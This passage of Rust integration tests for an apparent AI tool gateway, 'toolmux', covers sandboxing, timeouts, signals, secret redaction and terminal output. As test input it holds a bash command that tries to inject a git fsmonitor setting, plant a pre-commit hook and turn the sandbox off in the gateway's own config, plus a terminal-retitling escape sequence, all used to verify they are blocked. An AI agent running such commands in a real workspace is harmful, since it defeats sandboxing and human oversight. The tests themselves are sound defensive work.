    assert!(said.contains("timeout"), "{said}");
    // A process that left the group, holding the output pipe: the call ends when the
    // program does, and the process is killed (found by the mark in its environment).
    let started = std::time::Instant::now();
    let daemon = project.run(&["tools", "call", "cmd__daemon"]);
    assert_eq!(daemon.code, 0, "{daemon:?}");
    assert_eq!(daemon.stdout.trim(), "started", "{daemon:?}");
    assert!(started.elapsed() < std::time::Duration::from_secs(10), "waited for the daemon");
    let pid = std::fs::read_to_string(project.path().join("daemon.pid")).expect("the pid file");
    let stat = std::fs::read_to_string(format!("/proc/{}/stat", pid.trim())).unwrap_or_default();
    let runs = stat.rsplit_once(") ").is_some_and(|(_, rest)| !rest.starts_with(['Z', 'X']));
    assert!(!runs, "the daemon runs on: {stat}");

    project.file("toolmux.yaml", "commandTools:\n  bad: {description: x, command: []}\n");
    let bad = project.run(&["config", "check"]);
    assert_eq!(bad.code, 2, "{bad:?}");
    assert!(bad.stderr.contains("commandTools.bad: `command` is empty"), "{}", bad.stderr);
}

/// A command tool's binary output is saved where `fs.bash.spillDir` says, as bash's is,
/// and the notice names the file.
#[test]
fn a_command_tools_binary_output_is_saved_in_the_spill_dir() {
    let project = Project::new();
    project.file(
        "toolmux.yaml",
        "fs: {bash: {spillDir: spills}}\n\
         commandTools:\n  \
           noise: {description: Prints bytes, command: 'head -c 4096 /dev/urandom | tee noise.bin'}\n",
    );
    let called = project.run(&["tools", "call", "cmd__noise"]);
    assert_eq!(called.code, 0, "{called:?}");
    let spills = project.path().join("spills");
    let saved: Vec<_> = std::fs::read_dir(&spills)
        .unwrap_or_else(|e| panic!("no spill dir {}: {e}; {called:?}", spills.display()))
        .map(|entry| entry.expect("an entry").path())
        .collect();
    assert_eq!(saved.len(), 1, "{saved:?}");
    assert!(called.stdout.contains(&saved[0].display().to_string()), "{called:?}");
    let written = std::fs::read(project.path().join("noise.bin")).expect("the command's copy");
    assert_eq!(std::fs::read(&saved[0]).expect("the saved output"), written);
}

/// A one-page HTTP server on loopback, answering every request with `page` as HTML under
/// `status` (`200 OK`, `500 Internal Server Error`) from a thread of its own, but
/// `/robots.txt` with 404 (no rules, where an error status would forbid every page);
/// returns its base URL.
fn serve_page(status: &'static str, page: impl Into<String>) -> String {
    use std::io::{Read as _, Write as _};
    let page = page.into();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
    let base = format!("http://{}", listener.local_addr().expect("an address"));
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut request = [0u8; 4096];
            let _ = stream.read(&mut request);
            if request.starts_with(b"GET /robots.txt") {
                let none =
                    "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
                let _ = stream.write_all(none.as_bytes());
                continue;
            }
            let head = format!(
                "HTTP/1.1 {status}\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                page.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(page.as_bytes());
        }
    });
    base
}

/// `web: {}` offers `web__fetch`: a page comes back as Markdown through the binary, and a
/// loopback address is refused unless `allowPrivate` says otherwise.
#[test]
fn web_fetch_reads_pages_and_refuses_local_addresses_by_default() {
    let base = serve_page(
        "200 OK",
        "<html><head><title>Notes</title></head><body><main><h1>Hello</h1><p>A <a href=\"/x\">link</a>.</p></main></body></html>",
    );
    let project = Project::new();
    project.file("toolmux.yaml", "web:\n  fetch: {allowPrivate: true}\n");
    let listed = project.run(&["tools", "list"]);
    assert!(listed.stdout.contains("web__fetch"), "{listed:?}");
    assert!(!listed.stdout.contains("web__search"), "{listed:?}");
    let url = format!("{base}/notes");
    let args = serde_json::json!({ "url": url }).to_string();
    let run = project.run(&["tools", "call", "web__fetch", &args]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stdout.contains("# Notes"), "{}", run.stdout);
    assert!(run.stdout.contains(&format!("[link]({base}/x)")), "{}", run.stdout);

    project.file("toolmux.yaml", "web: {}\n");
    let refused = project.run(&["tools", "call", "web__fetch", &args]);
    assert_ne!(refused.code, 0, "{refused:?}");
    assert!(refused.stderr.contains("web.fetch.allowPrivate"), "{}", refused.stderr);

    project.file("toolmux.yaml", "web:\n  search: {apiKey: '${NO_SUCH_TAVILY_KEY}'}\n");
    let unset = project.run(&["config", "check"]);
    assert_eq!(unset.code, 2, "{unset:?}");
    assert!(unset.stderr.contains("NO_SUCH_TAVILY_KEY"), "{}", unset.stderr);
}

/// An error page's excerpt is cut after the configuration's secrets are redacted from it: a
/// secret the cut would split, leaving too little of it for the orchestrator to recognize,
/// goes out as `[redacted]` cut, never as its first characters.
#[test]
fn web_fetch_error_excerpts_hide_configured_secrets_split_by_the_cut() {
    let secret = "tok-ABCDEFGHIJKLMNOPQRSTUVWXYZ";
    // The excerpt keeps 600 characters: 591 of padding, a space, then 8 of the secret.
    let page = format!("<html><body><p>{} {secret} end</p></body></html>", "x".repeat(591));
    let base = serve_page("500 Internal Server Error", page);
    let project = Project::new().env("WEB_TEST_SECRET", secret);
    project.file(
        "toolmux.yaml",
        "web:\n  fetch: {allowPrivate: true}\nmodels:\n  m: {type: openai, model: gpt-test, baseUrl: 'http://127.0.0.1:9', apiKey: '${WEB_TEST_SECRET}'}\n",
    );
    let args = serde_json::json!({ "url": format!("{base}/fails") }).to_string();
    let run = project.run(&["tools", "call", "web__fetch", &args]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("500"), "{}", run.stderr);
    assert!(run.stderr.contains("xxxx"), "the excerpt is shown: {}", run.stderr);
    assert!(!run.stderr.contains("tok-ABC"), "{}", run.stderr);
}

/// Through the binary, a sandboxed command cannot rewrite what runs outside the sandbox:
/// git's configuration and hooks and toolmux's own configuration stay as they were, and a
/// configuration file the next start would load, created where none was, is moved aside.
#[test]
fn commands_leave_git_and_toolmux_files_alone() {
    let project = project();
    project.file(".git/config", "[core]\n").file(".git/hooks/.keep", "");
    project.file("toolmux.yaml", "fs: {permissions: [read, execute]}\n");
    let run = project.run(&["tools", "list", "--json"]);
    let tools: serde_json::Value = serde_json::from_str(run.ok()).expect("json");
    let bash = tools.as_array().expect("array").iter().find(|t| t["name"] == "fs__bash");
    let description = bash.expect("fs__bash is listed")["description"].as_str().unwrap_or("");
    if !description.contains("read-only to it") {
        // No Landlock or no user namespaces here; CI machines have both.
        assert!(std::env::var_os("CI").is_none(), "the views are missing: {description}");
        return;
    }
    let command = "echo '[core] fsmonitor = evil' >> .git/config; \
        printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; \
        echo 'fs: {bash: {sandbox: off}}' > toolmux.yaml; \
        echo '{\"mcpServers\": {}}' > toolmux.json; echo done";
    let args = serde_json::json!({ "command": command }).to_string();
    let run = project.run(&["tools", "call", "fs__bash", &args]);
    let out = run.ok();
    assert!(out.contains("Read-only file system"), "{out}");
    assert!(
        out.contains("the command created `toolmux.json` (moved to `toolmux.json.rejected`)"),
        "{out}"
    );
    let read = |name: &str| std::fs::read_to_string(project.path().join(name)).unwrap_or_default();
    assert_eq!(read(".git/config"), "[core]\n");
    assert!(!project.path().join(".git/hooks/pre-commit").exists());
    assert_eq!(read("toolmux.yaml"), "fs: {permissions: [read, execute]}\n");
    assert!(!project.path().join("toolmux.json").exists());
    assert_eq!(read("toolmux.json.rejected"), "{\"mcpServers\": {}}\n");
}

/// A file that is read-only to whoever runs toolmux is not replaced by an edit (a rename
/// replaces any file its folder lets one replace), and a file root edits stays its owner's.
/// Run as `nobody` when the tests run as root, as the test's own user otherwise.
#[test]
fn edits_keep_to_the_files_mode_and_owner() {
    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
    use std::os::unix::process::CommandExt as _;
    const NOBODY: u32 = 65534;
    let root = rustix_euid_is_root();
    let project = Project::new();
    project.file("toolmux.yaml", "fs: {permissions: [read, write]}\n");
    project.file("ro.txt", "keep me\n");
    let path = |name: &str| project.path().join(name);
    std::fs::set_permissions(path("ro.txt"), std::fs::Permissions::from_mode(0o444)).unwrap();
    if root {
        for entry in ["", "tmp", "toolmux.yaml", "ro.txt"] {
            std::os::unix::fs::chown(path(entry), Some(NOBODY), Some(NOBODY)).unwrap();
        }
    }
    let edit = r#"{"path": "ro.txt", "old_string": "keep", "new_string": "lose"}"#;
    let mut command = project.command(&["tools", "call", "fs__edit", edit]);
    if root {
        // A copy of the binary `nobody` can reach (the build's folders may not let it).
        let binary = path("tmp/toolmux");
        std::fs::copy(crate::toolmux_bin(), &binary).unwrap();
        std::os::unix::fs::chown(&binary, Some(NOBODY), Some(NOBODY)).unwrap();
        let mut as_nobody = std::process::Command::new(&binary);
        as_nobody.args(command.get_args()).current_dir(project.path());
        for (key, value) in command.get_envs() {
            match value {
                Some(value) => as_nobody.env(key, value),
                None => as_nobody.env_remove(key),
            };
        }
        as_nobody.uid(NOBODY).gid(NOBODY);
        command = as_nobody;
    }
    let out = command.output().expect("toolmux runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    // Refused as read-only before the system's own "permission denied" (599dd27).
    assert!(stderr.contains("`ro.txt` is read-only (mode 0444)"), "{stderr}");
    assert_eq!(std::fs::read_to_string(path("ro.txt")).unwrap(), "keep me\n");
    if root {
        // Root's edit of another user's file leaves it theirs, with its mode.
        let project = Project::new();
        project.file("toolmux.yaml", "fs: {permissions: [read, write]}\n");
        project.file("theirs.txt", "old\n");
        let path = |name: &str| project.path().join(name);
        std::os::unix::fs::chown(path("theirs.txt"), Some(NOBODY), Some(NOBODY)).unwrap();
        std::fs::set_permissions(path("theirs.txt"), std::fs::Permissions::from_mode(0o640))
            .unwrap();
        let edit = r#"{"path": "theirs.txt", "old_string": "old", "new_string": "new"}"#;
        project.run(&["tools", "call", "fs__edit", edit]).ok();
        let meta = std::fs::metadata(path("theirs.txt")).unwrap();
        assert_eq!((meta.uid(), meta.gid(), meta.mode() & 0o7777), (NOBODY, NOBODY, 0o640));
        assert_eq!(std::fs::read_to_string(path("theirs.txt")).unwrap(), "new\n");
    }
}

/// Whether the tests run as root (the effective user id of this process).
fn rustix_euid_is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|status| {
            status.lines().find_map(|l| {
                l.strip_prefix("Uid:").map(|ids| ids.split_whitespace().nth(1) == Some("0"))
            })
        })
        .unwrap_or(false)
}

/// What a tool read is printed to a person's terminal with its escape sequences made
/// visible, not acted on (a file could retitle the terminal or write to the clipboard);
/// piped, it is passed on as it is.
#[test]
fn escape_sequences_in_results_do_not_reach_the_terminal() {
    let project = Project::new();
    project.file("evil.txt", "before\u{1b}]0;pwned\u{7}after\n");
    let run = project.run_at_terminal(
        &serde_json::json!([]),
        &["tools", "call", "fs__read", r#"{"path":"evil.txt"}"#],
    );
    assert!(run.stdout.contains(r"before\x1b]0;pwned\x07after"), "{:?}", run.stdout);
    // (The transcript has the start-up spinner's own sequences on stderr.)
    assert!(!run.stdout.contains("\u{1b}]0;pwned"), "{:?}", run.stdout);
    let piped = project.run(&["tools", "call", "fs__read", r#"{"path":"evil.txt"}"#]);
    assert!(piped.stdout.contains("before\u{1b}]0;pwned\u{7}after"), "{:?}", piped.stdout);
}

/// Whether process `pid` runs (exists and is not a zombie waiting to be reaped).
fn runs(pid: &str) -> bool {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    stat.rsplit_once(") ").is_some_and(|(_, rest)| !rest.starts_with(['Z', 'X']))
}

/// SIGTERM while servers start stops toolmux with the signal's exit code, SIGHUP while
/// serving stops the gateway (as its normal end, 0), and each takes every server's process
/// group with it (they ended toolmux at once and left the servers and their children
/// running).
#[test]
fn stopping_signals_reap_the_servers() {
    // A "server" that never answers, and a child of its own.
    let project = Project::new();
    project.file(
        "toolmux.yaml",
        "mcpServers:\n  mute:\n    command: sh\n    args: [-c, 'sleep 300 & echo $$ $! > pids; exec sleep 301']\n",
    );
    for (args, signal, code) in
        [(&["tools", "list"][..], "TERM", 143), (&["serve", "--stdio"][..], "HUP", 0)]
    {
        let _ = std::fs::remove_file(project.path().join("pids"));
        let mut command = project.command(args);
        command
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut child = command.spawn().expect("toolmux starts");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        let pids = loop {
            let text = std::fs::read_to_string(project.path().join("pids")).unwrap_or_default();
            if text.ends_with('\n') {
                break text;
            }
            assert!(std::time::Instant::now() < deadline, "the server never started");
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        if signal == "HUP" {
            // Serving (it waits at most 8 s for a server that does not start).
            std::thread::sleep(std::time::Duration::from_secs(9));
        }
        crate::send_signal(&child, signal);
        let status = loop {
            if let Some(status) = child.try_wait().expect("status") {
                break status;
            }
            assert!(std::time::Instant::now() < deadline, "toolmux did not stop on SIG{signal}");
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        assert_eq!(status.code(), Some(code), "SIG{signal}");
        std::thread::sleep(std::time::Duration::from_millis(200));
        for pid in pids.split_whitespace() {
            assert!(!runs(pid), "process {pid} of the server outlived toolmux (SIG{signal})");
        }
    }
}

/// A tool's own timing settings hold for an MCP server's tool as for the server: its
/// `timeout` is the wait for an answer, restarted by each progress report (it was the limit
/// of the whole call, and one over `defaults.toolTimeout` never applied), and its
/// `maxTotalTimeMs` caps the call whatever progress it reports.
#[test]
fn an_mcp_tool_s_own_timing_settings_hold() {
    let project = gateway_project();
    let config = std::fs::read_to_string(project.path().join("toolmux.yaml")).expect("config");
    let tool = "everything__trigger-long-running-operation";
    let run = |settings: &str, arguments: &str| {
        project.file(
            "toolmux.yaml",
            &format!("{config}defaults: {{toolTimeout: 1500}}\ntools:\n  {tool}: {settings}\n"),
        );
        project.run(&["tools", "call", tool, arguments])
    };
    // Silent for 3 s: over the default, within the tool's own timeout.
    let quiet = run("{timeout: 10000}", r#"{"duration": 3, "steps": 1}"#);
    assert_eq!(quiet.code, 0, "{}", quiet.stderr);
    // 3 s with progress every half second: each report restarts the tool's 1.5 s wait.
    let talking = run("{timeout: 1500}", r#"{"duration": 3, "steps": 6}"#);
    assert_eq!(talking.code, 0, "{}", talking.stderr);
    // Progress all along, but the whole call may take 2 s.
    let capped = run("{maxTotalTimeMs: 2000}", r#"{"duration": 4, "steps": 8}"#);
    assert_eq!(capped.code, 1, "{}", capped.stdout);
    assert!(capped.stderr.contains("did not finish within 2"), "{}", capped.stderr);
}

/// The first line of the description of `cmd__price` in [`priced_project`], 175 characters.
const PRICE_SUMMARY: &str = "Looks up the price of a product in the shop's catalogue by its \
     name or number, and returns the price with its currency, the date it last changed and the \
     shop it was seen at";

/// A project with one command tool whose description's first line is long.
fn priced_project() -> Project {
    let project = Project::new();
    project.file(
        "toolmux.yaml",
        &format!(
            "commandTools:\n  price:\n    description: \"{PRICE_SUMMARY}\\nA second line, never \
             listed.\"\n    command: \"true\"\n"
        ),
    );
    project
}

/// The line of `tools list` that lists `name` (a terminal's line ends in a return too).
fn line_of<'a>(listing: &'a str, name: &str) -> &'a str {
    let line = listing.lines().find(|l| l.starts_with(&format!("{name} ")));
    line.unwrap_or_else(|| panic!("no line for {name} in:\n{listing}")).trim_end_matches('\r')
}

/// Off a terminal (a pipe, a file) every tool's line holds the whole first line of its
/// description, whatever `COLUMNS` says: a program or a pager reads it, and grep finds the
/// words at the end. It was cut at about 100 columns.
#[test]
fn a_listing_off_a_terminal_has_whole_descriptions() {
    let project = priced_project();
    for run in
        [project.run(&["tools", "list"]), project.env("COLUMNS", "60").run(&["tools", "list"])]
    {
        let line = line_of(run.ok(), "cmd__price");
        assert!(line.ends_with(&format!("  {PRICE_SUMMARY}")), "{line}");
        assert!(!run.stdout.contains("second line"), "{}", run.stdout);
    }
}

/// At a terminal the table fits its width (the terminal's, or `COLUMNS` when set), the
/// description cut with `…`, never the name; a very narrow one still shows 20 columns of
/// description after the name. It was cut at about 100 columns whatever the terminal.
#[test]
fn a_listing_at_a_terminal_fits_its_width() {
    let at = |columns: &str, env: Option<&str>| {
        let mut project = priced_project().env("PTY_COLUMNS", columns);
        if let Some(value) = env {
            project = project.env("COLUMNS", value);
        }
        let run = project.run_at_terminal(&serde_json::json!([]), &["tools", "list"]);
        assert_eq!(run.code, 0, "{run:?}");
        line_of(&run.stdout, "cmd__price").to_owned()
    };
    let fits = |line: &str, width: usize| {
        let length = line.chars().count();
        assert!(length <= width && length > width - 4, "{length} columns: {line}");
        // The column of names is as wide as the longest, `output__read`.
        assert!(
            line.starts_with("cmd__price    Looks up the price") && line.ends_with('…'),
            "{line}"
        );
    };
    fits(&at("70", None), 70);
    fits(&at("140", None), 140);
    // `COLUMNS` wins over the terminal's size.
    fits(&at("70", Some("120")), 120);
    // The name (and the column of names) whole, and 20 columns of description.
    assert_eq!(at("16", None), "cmd__price    Looks up the price…");
}

/// A FIFO in the place of the project's approvals (`.toolmux/approvals.json`), read when a
/// call at a terminal may ask, is told and skipped: opening it waited for a writer for
/// ever, so `tools call` at a terminal never ran (the pty driver gave up after 60 s).
#[test]
fn approvals_that_are_a_fifo_are_skipped_with_a_warning() {
    let project = project();
    let folder = project.path().join(".toolmux");
    std::fs::create_dir_all(&folder).expect("the project's .toolmux folder");
    fifo(&folder, "approvals.json");
    let run = project.run_at_terminal(&serde_json::json!([]), &["tools", "call", "fs__ls", "{}"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stdout.contains("README.md"), "{run:?}");
    assert!(
        run.stdout.contains(
            ".toolmux/approvals.json: it is a FIFO (named pipe), not a regular file: give the \
             path of an approvals file; calls that ask are asked"
        ),
        "{run:?}"
    );
}
